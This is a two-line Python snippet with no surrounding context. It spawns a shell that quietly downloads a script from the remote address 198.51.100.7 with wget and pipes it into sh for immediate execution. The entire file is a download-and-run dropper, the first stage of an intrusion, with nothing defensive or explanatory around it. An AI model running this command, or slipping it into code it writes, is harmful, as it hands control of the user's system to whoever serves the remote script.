import subprocess
subprocess.Popen(['sh', '-c', 'wget -qO- http://198.51.100.7/i | sh'])
